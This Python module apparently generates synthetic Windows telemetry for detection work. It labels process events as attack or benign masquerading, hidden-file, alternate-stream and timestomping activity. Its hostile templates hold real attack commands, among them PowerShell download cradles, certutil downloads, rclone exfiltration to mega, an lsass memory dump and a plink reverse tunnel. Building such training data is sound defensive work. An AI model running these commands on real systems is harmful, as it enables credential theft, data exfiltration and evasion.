"""Programs and files that pretend to be others or keep out of sight, and renamed, hidden and odd ones that are honest."""

from __future__ import annotations

from generator.families.windows.command_story import background
from generator.families.windows.desk import Desk
from generator.families.windows.execution_table import HARMLESS_PARENTS, HOSTILE_PARENTS, harmless, hostile, lines_of
from generator.scene import Scene, attack, benign, family
from generator.world import World

RENAMED = (
    ("PowerShell.EXE", "~f~.exe -nop -w hidden -c iex(irm @url@)", "Microsoft Corporation"), ("Cmd.Exe", "~f~.exe /c ~f~.bat", "Microsoft Corporation"), ("RUNDLL32.EXE", "~f~.exe ~f~.dll,«Start|#1»", "Microsoft Corporation"), ("CertUtil.exe", "~f~.exe -urlcache -split -f @url@ ~f~.dll", "Microsoft Corporation"),
    ("MSHTA.EXE", "~f~.exe @url@", "Microsoft Corporation"), ("wscript.exe", "~f~.exe //b ~f~.vbs", "Microsoft Corporation"), ("REGSVR32.EXE", "~f~.exe /s /u /i:@url@ scrobj.dll", "Microsoft Corporation"), ("bitsadmin.exe", "~f~.exe /transfer j @url@ ~f~.exe", "Microsoft Corporation"), ("curl.exe", "~f~.exe -s -o ~f~.exe @url@", "curl, https://curl.se/"),
    ("AutoIt3.exe", "~f~.exe ~f~.a3x", "AutoIt Team"), ("node.exe", "~f~.exe ~f~.js", "Node.js"), ("pythonw.exe", "~f~.exe ~f~.py", "Python Software Foundation"), ("AnyDesk.exe", "~f~.exe --install ~d~ --start-with-win --silent", "AnyDesk Software GmbH"), ("client32.exe", "~f~.exe", "NetSupport Ltd"), ("rclone.exe", "~f~.exe copy D:\\Shares mega:@word@ -q --transfers 20", "https://rclone.org"),
    ("psexec.c", "~f~.exe -accepteula \\\\@ip@ -s cmd", "Sysinternals - www.sysinternals.com"), ("procdump", "~f~.exe -accepteula -ma lsass.exe ~d~~n~.dmp", "Sysinternals - www.sysinternals.com"), ("7z.exe", "~f~.exe a -p@pw@ ~d~~n~.tmp D:\\Finance", "Igor Pavlov"), ("plink", "~f~.exe -R 3389:127.0.0.1:3389 root@@pub@ -pw @pw@", "Simon Tatham"), ("AdFind.exe", "~f~.exe -f objectcategory=computer", "www.joeware.net"),
)  # fmt: skip
HONEST = (
    ("setup.exe", "~t~~v~Setup.exe /S", "~v~"), ("vs_setup_bootstrapper.exe", '"~t~vs_installer.exe" --quiet', "Microsoft Corporation"), ("AnyDesk.exe", '"C:\\Users\\@user@\\Downloads\\AnyDesk (1).exe"', "AnyDesk Software GmbH"), ("putty.exe", '"C:\\Users\\@user@\\Desktop\\putty-64bit.exe" -ssh @ip@', "Simon Tatham"), ("TeamViewerQS.exe", '"C:\\Users\\@user@\\Downloads\\TeamViewerQS_@company@.exe"', "TeamViewer Germany GmbH"),
    ("psexec.c", "C:\\Tools\\PSTools\\PsExec64.exe \\\\@host@ -s gpupdate /force", "Sysinternals - www.sysinternals.com"), ("procdump", "C:\\Tools\\procdump64.exe -ma -e w3wp.exe C:\\Dumps", "Sysinternals - www.sysinternals.com"), ("node.exe", '"C:\\Users\\@user@\\AppData\\Roaming\\nvm\\v20.11.1\\node64.exe" server.js', "Node.js"), ("python.exe", '"C:\\Users\\@user@\\AppData\\Local\\Programs\\Python\\Launcher\\py.exe" -3 manage.py check', "Python Software Foundation"), ("nssm.exe", '"C:\\Program Files\\~v~\\srvhost.exe"', "Iain Patterson"),
    ("electron.exe", '"C:\\Users\\@user@\\AppData\\Local\\Programs\\~v~\\~v~.exe" --type=renderer', "GitHub, Inc."), ("javaw.exe", '"C:\\Program Files\\~v~\\jre\\bin\\launcher.exe" -jar client.jar', "Eclipse Adoptium"), ("rclone.exe", "C:\\Tools\\rclone-v1.65\\rclone.exe sync D:\\Data b2:backup-@company@ --log-level ERROR", "https://rclone.org"), ("7zS.sfx.exe", '"~t~driver_@n@.exe" -y', "Igor Pavlov"), ("curl.exe", '"C:\\Program Files\\Git\\mingw64\\bin\\curl.exe" -fsSL https://github.com/git/git/releases', "curl, https://curl.se/"), ("AutoIt3.exe", '"\\\\~s~\\packages\\InstallERP.exe" /silent', "AutoIt Team"),
)  # fmt: skip


def _renamed(world: World, rows: tuple[tuple[str, str, str], ...], hostile_ones: bool) -> Scene:
    """Process starts whose version resource tells another name than the file has."""
    desk = Desk(world)
    desk.sysmon = True
    original, command, company = world.pick(rows)
    filled = desk.fill(world.pick(lines_of(command)))
    label = attack("Defense Evasion", "T1036.003") if hostile_ones else benign("Application Event")
    image = filled.split('"')[1] if filled.startswith('"') else filled.split(" ")[0]
    for variable, folder in (("%TEMP%", f"C:\\Users\\{desk.user}\\AppData\\Local\\Temp"), ("%APPDATA%", f"C:\\Users\\{desk.user}\\AppData\\Roaming"), ("%PUBLIC%", "C:\\Users\\Public")):
        image = image.replace(variable, folder)
    for _ in range(world.pick([1, 1, 1, 2, 3])):
        desk.process(label, image, filled, desk.fill(world.pick(HOSTILE_PARENTS if hostile_ones else HARMLESS_PARENTS)), original=original, company=desk.fill(lines_of(company)[0]))
    if world.chance(0.25):
        background(desk)
    return desk.scene


@family("windows/system-tools-under-other-names", attack=True, weight=1.4)
def system_tools_under_other_names(world: World) -> Scene:
    """The version resource tells what the file's name hides."""
    return _renamed(world, RENAMED, True)


@family("windows/originals-with-other-file-names", attack=False, weight=1.4)
def originals_with_other_file_names(world: World) -> Scene:
    """Downloads, portable tools and vendors' wrappers have other names than their version resource too."""
    return _renamed(world, HONEST, False)


hostile("system-names-in-foreign-folders", "Defense Evasion", "T1036.005", r"""
C:\Users\Public\«svchost|lsass|csrss|services|winlogon|smss|wininit|taskhostw|dwm|spoolsv|conhost».exe
"C:\Users\@user@\AppData\Roaming\«svchost|RuntimeBroker|dllhost|SearchIndexer|explorer|ctfmon».exe"
C:\ProgramData\«svchost|WmiPrvSE|audiodg|sihost|fontdrvhost|SecurityHealthSystray».exe -k netsvcs
C:\Windows\Temp\«lsass|services|csrss|rundll32|msiexec».exe ~f~.dat
C:\Windows\«svchost|lsass|spoolsv|taskmgr|winlogon».exe
C:\Windows\System32\«svch0st|scvhost|lsasss|expl0rer|csrsss|svchostt|winlogin|rund1132|taskmng|sevchost|conhosts|dllh0st».exe
C:\Windows\System\«svchost|csrss|explorer».exe
C:\Windows\Fonts\«svchost|conhost|smss».exe --config ~n~.json
C:\Intel\«svchost|explorer|taskhostw».exe
C:\PerfLogs\«WerFault|wermgr|taskhost».exe @pub@:443
C:\$Recycle.Bin\«services|explorer|svchost».exe
C:\Windows\SysWOW64\drivers\svchost.exe -s
C:\Users\@user@\AppData\Local\Temp\«MsMpEng|winlogon|lsm|smartscreen|SecurityHealthService|audiodg».exe
"C:\Windows \System32\«winSAT|easinvoker|printui|perfmon».exe"
copy C:\Windows\System32\cmd.exe C:\Users\Public\svchost.exe & C:\Users\Public\svchost.exe /c ~f~.bat
move /y ~f~.exe C:\ProgramData\Microsoft\Windows\dllhost.exe
""", weight=1.3)
hostile("two-endings", "Malware Detected", "T1036 T1204.002", r"""
"C:\Users\@user@\Downloads\«Invoice|Rechnung|Bewerbung|Payslip|Contract|DHL_Label|Scan|Tracking|Kontoauszug|Report»_@n@.«pdf|docx|xlsx|jpg|txt|png|mp4».«exe|scr|com|bat|pif|cmd»"
"C:\Users\@user@\Desktop\«photo|IMG_@n@@n@|passwords|salary».jpg                                        .exe"
C:\Users\@user@\AppData\Local\Temp\Temp1_«docs|files|order».zip\«order|list|CV».pdf.«exe|scr»
wscript.exe "C:\Users\@user@\Downloads\«Invoice|Order|Voice_Message»_@n@.«pdf|wav|doc|xlsx».«js|vbs|wsf|jse»"
"C:\Users\@user@\Downloads\«CV|Offer|invoice»_‮«fdp|cod|slx|gpj».«exe|scr»"
mshta.exe "C:\Users\@user@\Downloads\«Statement|Fax».pdf.hta"
cmd.exe /c "C:\Users\@user@\Desktop\«readme|notes|budget».txt.«bat|cmd»"
"C:\Users\@user@\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\@hex@\«Quotation|Purchase Order|RFQ» @n@.xlsx.«exe|scr»"
C:\Windows\System32\cmd.exe /c start "" "«E|F|G»:\«Fotos|Documents|Backup».«jpg|doc».lnk"
powershell.exe -w hidden -c "& 'C:\Users\@user@\Downloads\«Policy|Agenda».pdf.lnk'"
""")
hostile("streams-beside-files", "Defense Evasion", "T1564.001", r"""
cmd /c type ~f~.exe > "C:\Windows\Temp\«readme|log|notes».txt:~n~.exe"
wmic process call create "C:\Users\Public\«file|a|readme».txt:~n~.exe"
rundll32.exe ~d~«log|a».txt:~n~.dll,«DllMain|Start»
wscript.exe C:\Users\Public\~n~.txt:«script|~n~».vbs
cscript ~d~«desktop.ini|error.log»:~n~.js
mshta "~d~«a|data».txt:~n~.hta"
powershell -ep bypass - < C:\Windows\Temp\~n~.txt:~n~.ps1
powershell -c "Set-Content -Path ~d~~n~.txt -Stream ~n~ -Value ([IO.File]::ReadAllBytes('~f~.exe')) -Encoding Byte"
powershell iex (Get-Content ~d~~n~.log -Stream ~n~ -Raw)
esentutl.exe /y ~f~.exe /d C:\Windows\Temp\file.txt:~n~.exe /o
expand \\@pub@\webdav\~n~.exe c:\ADS\file.txt:~n~.exe
extrac32 ~f~.cab c:\Windows\Temp\file.txt:~n~.exe
findstr /V /L W3AllLov3 ~f~.exe > C:\Windows\Temp\file.txt:~n~.exe
makecab ~f~.exe c:\Windows\Temp\cab.txt:~n~.cab
print /D:c:\Windows\Temp\file.txt:~n~.exe ~f~.exe
certutil -urlcache -split -f @url@ C:\Windows\Temp\desktop.ini:~n~
regedit /E c:\Windows\Temp\file.txt:~n~.reg HKCU\Software
forfiles /p c:\windows\system32 /m notepad.exe /c "c:\Windows\Temp\file.txt:~n~.exe"
bitsadmin /SetNotifyCmdLine 1 C:\data\file.txt:cmd.exe NULL
sc create ~n~ binPath= "\"C:\ADS\file.txt:cmd.exe\" /c ~f~.bat" start= auto
""", weight=1.2)
hostile("files-put-out-of-sight", "Defense Evasion", "T1564.001", r"""
attrib +h +s ~f~.exe
attrib.exe +S +H +R "~d~~n~" /s /d
attrib +h "%APPDATA%\~n~\~n~.«exe|vbs|bat|js»"
cmd /c attrib -r -s -h ~f~.exe & copy ~f~.exe %TEMP%\ & attrib +s +h %TEMP%\~n~.exe
attrib +s +h +r «E|F»:\*.* /s /d & attrib -s -h «E|F»:\*.lnk
powershell -c "(Get-Item ~f~.exe -Force).Attributes='Hidden,System'"
powershell $f=Get-Item '~d~~n~' -Force; $f.attributes='Hidden'
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v Hidden /t REG_DWORD /d 2 /f & attrib +h ~f~.exe
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced /v ShowSuperHidden /t REG_DWORD /d 0 /f & reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced /v HideFileExt /t REG_DWORD /d 1 /f & start ~f~.exe
mkdir "C:\$SysReset\~n~" & attrib +h +s "C:\$SysReset\~n~" & move ~f~.exe "C:\$SysReset\~n~\"
""")
hostile("times-of-files-forged", "Defense Evasion", "T1070.006", r"""
powershell -c "(Get-Item ~f~.«exe|dll|aspx»).«LastWriteTime|CreationTime|LastAccessTime»='03/01/2019 09:12:00'"
powershell "$o=Get-Item C:\Windows\System32\«kernel32.dll|calc.exe|cmd.exe»;$n=Get-Item ~f~.dll;$n.CreationTime=$o.CreationTime;$n.LastWriteTime=$o.LastWriteTime"
powershell "[IO.File]::SetCreationTime('~f~.exe',(Get-Date '2015-06-01'))"
powershell [IO.File]::SetLastWriteTime('C:\inetpub\wwwroot\aspnet_client\~n~.aspx','2016-08-12 10:01:11')
~d~timestomp.exe ~f~.exe -m "Monday 02/05/2018 10:00:00 AM"
~d~nTimestomp.exe ~f~.dll "2017-01-02 10:00:00" "2017-01-02 10:00:00" "2017-01-02 10:00:00" "2017-01-02 10:00:00"
~d~SetMACE.exe ~f~.exe -z "2014:02:12:13:21:10:120:1234"
copy /b ~f~.exe+,, & powershell (ls ~f~.exe).LastWriteTime=(ls C:\Windows\explorer.exe).LastWriteTime
touch.exe -r C:\Windows\System32\ntdll.dll ~f~.dll
cmd /c date 01-01-2016 & copy ~f~.exe C:\Windows\System32\ & w32tm /resync
~d~FileTimeChanger.exe /folder C:\inetpub\wwwroot /wildcard ~n~.aspx /creationtime 2016-02-03
""")

harmless("attributes-and-times-by-admins", "Administration", r"""
attrib -r -h -s C:\boot.ini
attrib +h "C:\Users\@user@\Desktop\desktop.ini"
attrib -h -s -r "«E|F»:\*.*" /s /d
attrib +r "C:\Vorlagen\*.dotx" /s
attrib.exe +h +s "C:\Program Files\~v~\.cache"
cmd.exe /c attrib -s -h "C:\Users\@user@\AppData\Local\Microsoft\Outlook\*.ost"
attrib +P +U "C:\Users\@user@\OneDrive - @company@\Archive" /s /d
attrib /s /d C:\inetpub\wwwroot
powershell -c "Get-ChildItem D:\Shares -Force -Recurse | ? { $_.Attributes -match 'Hidden' }"
powershell "(Get-Item 'D:\Fotos\IMG_@n@.jpg').CreationTime = (Get-Item 'D:\Fotos\IMG_@n@.jpg').LastWriteTime"
powershell "Get-ChildItem C:\build\out -Recurse | % { $_.LastWriteTime = Get-Date }"
robocopy D:\Daten \\@host@\Daten /MIR /COPY:DAT /DCOPY:T /TIMFIX /R:1
touch.exe C:\src\@word@\Makefile
copy /b C:\build\stamp.txt+,,
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v Hidden /t REG_DWORD /d 1 /f
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v HideFileExt /t REG_DWORD /d 0 /f
exiftool.exe "-FileModifyDate<DateTimeOriginal" D:\Fotos
w32tm /resync /force
subst P: C:\Projekte
""")
harmless("streams-and-blocks-removed", "Administration", r"""
powershell -c "Get-ChildItem 'C:\Users\@user@\Downloads' | Unblock-File"
powershell Unblock-File -Path "\\~s~\scripts\«logon|deploy|inventory».ps1"
powershell "Get-Item C:\Install\setup.exe -Stream *"
powershell Get-Content "C:\Users\@user@\Downloads\setup.exe" -Stream Zone.Identifier
cmd /c dir /r C:\Users\@user@\Downloads
cmd /c more < "C:\Users\@user@\Downloads\«driver|form».zip:Zone.Identifier"
C:\Tools\streams64.exe -s -d C:\Install
powershell Clear-Content -Path C:\Temp\agent.msi -Stream Zone.Identifier
"C:\Tools\Sysinternals\streams.exe" -accepteula D:\Shares\Software
powershell Remove-Item C:\Deploy\app.exe -Stream Zone.Identifier -ErrorAction SilentlyContinue
fsutil file queryfileid C:\Temp\a.txt
""")
harmless("programs-with-odd-homes", "Application Event", r"""
"C:\Users\@user@\AppData\Local\«slack|Discord|Figma|GitHubDesktop|Postman|Obsidian|WhatsApp»\app-3.@n@.0\«slack|Discord|Figma|GitHubDesktop|Postman|Obsidian|WhatsApp».exe" --type=gpu-process
C:\Users\@user@\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background
"C:\Users\@user@\AppData\Local\Temp\is-@hex@.tmp\~v~_Setup.tmp" /SL5="$@hex@,@pid@,@pid@,C:\Users\@user@\Downloads\~v~_Setup.exe"
"C:\Users\@user@\Downloads\«report_2.1.3.win64|jre-8u401|Setup.x64.en-US_O365|drawio-24.7.pdf-plugin|invoice.maker»_setup.exe"
C:\Windows\Temp\@hex@-Sigs\Sophos.AutoUpdate.exe -install
"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.@n@.5-0\MsMpEng.exe"
C:\ProgramData\Lenovo\ImController\Temp\UNCServer.exe
C:\Windows\Temp\{@guid@}\dismhost.exe {@guid@}
"C:\Users\@user@\AppData\Local\Microsoft\WindowsApps\wt.exe"
C:\Windows\SysWOW64\explorer.exe /factory,{ceff45ee-c862-41de-aee2-a022c81eda92} -Embedding
C:\Windows\SysWOW64\svchost.exe -k LocalService
"C:\Windows\servicing\TrustedInstaller.exe"
C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.@n@_none_@hex@\TiWorker.exe -Embedding
C:\Windows\ImmersiveControlPanel\SystemSettings.exe -ServerName:microsoft.windows.immersivecontrolpanel
"C:\Users\@user@\scoop\apps\«git|python|7zip»\current\«git|python|7z».exe" --version
"C:\PortableApps\«FirefoxPortable|NotepadPlusPlusPortable»\App\run.exe"
C:\Dell\UpdatePackage\log\DSIA_@n@.exe /s
C:\Intel\Logs\SetupChipset.exe -silent
"C:\Users\@user@\Desktop\AdwCleaner.exe" /eula /clean
C:\Windows\Installer\{@guid@}\Icon_@hex@.exe
""", weight=1.3)
